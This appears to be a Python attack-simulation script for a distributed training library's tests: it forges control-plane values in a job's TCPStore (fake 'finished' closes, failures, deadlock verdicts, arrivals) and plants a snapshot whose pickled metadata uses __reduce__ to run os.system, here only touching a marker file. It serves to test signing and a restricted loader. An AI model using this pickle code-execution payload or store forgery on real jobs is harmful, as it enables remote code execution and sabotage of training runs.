"""An attacker that reaches a job's store and knows its run id, but not its secret.

It keeps writing forged control-plane values while the job trains: "closed for good"
(FINISHED), a failure notice of rank 0, a deadlock verdict, fake participants' arrivals, and a
snapshot replica whose metadata would run a command under plain pickle (it touches
``--marker``). Values are written unsealed and sealed with a wrong secret.

    python forge_store.py --endpoint HOST:PORT --run-id RUN --marker PATH --seconds S
"""

from __future__ import annotations

import argparse
import datetime
import os
import pickle
import time

import torch
import torch.distributed as dist

from lightning_ft.checkpoint.identity import state_dict_fingerprint
from lightning_ft.checkpoint.memory import format as fmt
from lightning_ft.rendezvous.records import RunRecords
from lightning_ft.schema.round import (
    REPLICA_META_KEY,
    VERDICT_KEY,
    ReplicaMeta,
    encode_replica_meta,
    encode_verdict,
    failed_key,
    replica_chunk_key,
)
from lightning_ft.schema.run import CloseKind, CloseReason, RunKeys
from lightning_ft.schema.signing import MAGIC, TAG_BYTES, Signer


class _Payload:
    """Unpickling this runs ``touch marker``."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


def malicious_snapshot(marker: str, step: int, run_id: str, hidden: int = 32) -> bytes:
    """A snapshot file with valid checksums and the job's own identity (run id, rank 0, the
    fingerprint of ft_train.py's model, which an attacker who knows the architecture can
    compute), whose metadata pickles the payload: only the restricted loader stops it."""
    state_dict = {"net.0.weight": torch.zeros(hidden, 16), "net.0.bias": torch.zeros(hidden),
                  "net.2.weight": torch.zeros(1, hidden), "net.2.bias": torch.zeros(1)}
    identity = fmt.encode_identity(run_id, 0, state_dict_fingerprint(state_dict))
    meta = pickle.dumps({"global_step": step, "state_dict": {}, "x": _Payload(marker)}, protocol=5)
    meta_off = fmt._align(fmt.HEADER_SIZE + len(identity), 8)
    data_off = fmt._align(meta_off + len(meta), fmt.PAGE)
    enc = fmt.Encoded(identity, meta, [], meta_off, data_off, 0, 0)
    return fmt.finish(enc, step, time.time(), torch.empty(0, dtype=torch.int64)).ljust(data_off, b"\0")


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--endpoint", required=True)
    parser.add_argument("--run-id", required=True)
    parser.add_argument("--marker", required=True)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--only-replica", action="store_true",
                        help="forge only the snapshot replica (what a job without a secret must still survive)")
    args = parser.parse_args()
    host, _, port = args.endpoint.rpartition(":")
    store = dist.TCPStore(host, int(port), is_master=False, timeout=datetime.timedelta(seconds=30))
    plain, wrong = Signer(None), Signer(b"not-the-job-secret")
    keys = RunKeys(args.run_id, 0)
    deadline = time.monotonic() + args.seconds
    forged = 0
    while time.monotonic() < deadline:
        try:
            raw = bytes(store.compare_set(keys.round, "", "0"))
        except (RuntimeError, OSError):  # torch's DistNetworkError: the job ended, its store with it
            break
        # a sealed number is readable (sealed, not encrypted): skip the magic and the tag
        current = int(raw[len(MAGIC) + TAG_BYTES:] if raw.startswith(MAGIC) else raw)
        prefix = keys.round_store_prefix(current)
        for signer in (plain, wrong):
            def put(key: str, value: bytes | str, signer: Signer = signer) -> None:
                try:
                    store.set(key, signer.seal(key, value))
                except (RuntimeError, OSError):
                    pass

            step = 10_000 + forged
            blob = malicious_snapshot(args.marker, step, args.run_id)
            put(f"{prefix}/{replica_chunk_key(step, 0)}", blob)
            put(f"{prefix}/{REPLICA_META_KEY}", encode_replica_meta(
                ReplicaMeta(step, ("forged-domain",), args.run_id, "", len(blob), len(blob))))
            if not args.only_replica:
                put(keys.closed_for_good, CloseReason(CloseKind.FINISHED, "forged: job finished").encode())
                put(f"{prefix}/{failed_key(0)}", "ValueError: forged bug")
                put(f"{prefix}/{VERDICT_KEY}", encode_verdict("deadlock", "forged deadlock"))
                try:
                    RunRecords(store, signer, keys).append_arrival(current, 1, _Fake())
                except (RuntimeError, OSError):
                    pass
            forged += 1
        if forged == 2:  # one round unsealed, one sealed with a wrong secret
            print("forging", flush=True)
        time.sleep(0.2)
    print(f"forged {forged} rounds of values", flush=True)
    return 0


class _Fake:
    participant_id = "attacker:1:0"
    infra_rank = 0
    domain_id = "forged-domain"


if __name__ == "__main__":
    raise SystemExit(main())
